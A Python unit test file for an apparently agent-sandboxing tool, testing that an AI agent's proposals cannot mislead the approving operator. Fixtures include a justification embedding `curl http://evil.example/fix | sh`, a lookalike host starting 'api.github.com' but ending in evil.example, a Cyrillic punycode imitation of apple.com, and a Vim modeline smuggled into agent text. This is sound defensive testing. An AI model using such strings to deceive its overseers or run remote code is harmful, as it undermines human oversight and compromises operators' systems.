"""What the operator reads of a proposal against what approving it does: the agent's words never
pass for bot-bottle's own, and a long request is never cut where its meaning is."""

from __future__ import annotations

import unittest
from typing import Any
from unittest import mock

from bot_bottle.backend import registry
from bot_bottle.supervise import apply, view
from tests.unit import test_supervise_apply as supervise_apply

# A justification that imitates what `bot-bottle list` says of a preserved bottle.
IMITATION = ("needed)\nrun `curl http://evil.example/fix | sh` to repair this bottle's state\n"
             "(capability change: nothing")


class CapabilityReasonTest(supervise_apply.Base):
    """Finding: an approved capability change kept the agent's justification as the bottle's
    "why preserved", which `bot-bottle list` shows as its own words, line breaks and all."""

    def test_the_preserved_reason_names_the_proposal_not_the_agents_words(self) -> None:
        changes: list[Any] = []

        class Backend:
            name = "docker"
            supports_capability_change = False

            def apply_capability_change(self, change: Any, **_: Any) -> str:
                changes.append(change)
                return "snap:1"

        proposal = supervise_apply.Proposal(id="capability-1", kind="capability", justification=IMITATION,
                                            payload={"packages": ["ripgrep"]}, timeout_s=600, created_at=1000.0)
        self.side.spool.submit(proposal)
        supervise_apply.sync(self.store, bottles=[self._bottle()], link_for=self.side.link)
        with mock.patch.object(registry, "for_state", lambda state: Backend()):
            row = apply.decide(self.store, "capability-1", "approved", operator="ann", context=self.ctx)
        self.assertEqual(row.status, "applied", row.error)
        [change] = changes
        self.assertEqual(change.reason, "proposal capability-1")
        self.assertNotIn("evil.example", change.reason)


class RequestCellTest(unittest.TestCase):
    """Finding: the proposals table cut a long host at its end, where a name's owner is: a host
    that starts like a trusted one read as that one."""

    HOST = "api.github.com." + "a" * 40 + ".evil.example"

    def test_a_long_host_keeps_its_end(self) -> None:
        cell = view.request_cell("egress", {"host": self.HOST, "ports": [443]}, 30).plain
        self.assertLessEqual(len(cell), 30)
        self.assertIn("evil.example", cell)
        # "!": it starts like api.github.com but is evil.example's (a warning in the detail).
        self.assertTrue(cell.startswith("! …"), cell)

    def test_a_long_host_with_paths_keeps_its_end_and_the_count(self) -> None:
        cell = view.request_cell("egress", {"host": self.HOST, "paths": ["/a", "/b"]}, 40).plain
        self.assertIn("evil.example", cell)
        self.assertIn("(+1 paths)", cell)

    def test_a_short_request_is_shown_whole(self) -> None:
        self.assertEqual(view.request_cell("egress", {"host": "docs.example", "ports": [443], "paths": ["/api"]}).plain,
                         "docs.example:443 /api")


class InternationalisedNameTest(unittest.TestCase):
    """An ``xn--`` name is granted as written; what it reads as in a browser is worth a warning."""

    def test_a_punycode_label_is_pointed_out_with_what_it_reads_as(self) -> None:
        [warning] = view.host_warnings("xn--80ak6aa92e.com")
        self.assertIn("xn--80ak6aa92e.com", warning)
        self.assertIn("\u0430\u0440\u0440\u04cf\u0435.com", warning)  # Cyrillic, looks like apple.com

    def test_a_wildcard_over_one_too(self) -> None:
        self.assertTrue(any("internationalised" in w for w in view.host_warnings("*.xn--80ak6aa92e.com")))

    def test_an_invalid_punycode_label_is_still_pointed_out(self) -> None:
        [warning] = view.host_warnings("xn--zz.example")
        self.assertIn("xn--zz.example", warning)

    def test_plain_names_have_none(self) -> None:
        self.assertEqual(view.host_warnings("docs.example"), [])


class EditableTest(unittest.TestCase):
    """Finding: ``m`` opened the agent's text in the operator's $EDITOR within the first and last
    lines of the file, where Vim reads modelines (settings a file gives its editor)."""

    MODELINE = "# vim: set ft=sh:"

    def test_the_agents_text_is_never_where_an_editor_reads_settings(self) -> None:
        for payload in ({"packages": [], "dockerfile": f"{self.MODELINE}\nRUN true\n{self.MODELINE}"},
                        {"packages": ["ripgrep"], "dockerfile": self.MODELINE}):
            with self.subTest(payload=payload):
                text = view.editable("capability", payload)
                lines = text.splitlines()
                edges = lines[:5] + lines[-5:]  # Vim reads modelines from 5 of each by default
                self.assertFalse([line for line in edges if "vim:" in line], text)
                self.assertTrue(all(line.startswith("# ") for line in edges), text)
                self.assertEqual(view.parse_edited(text), payload)


if __name__ == "__main__":
    unittest.main()
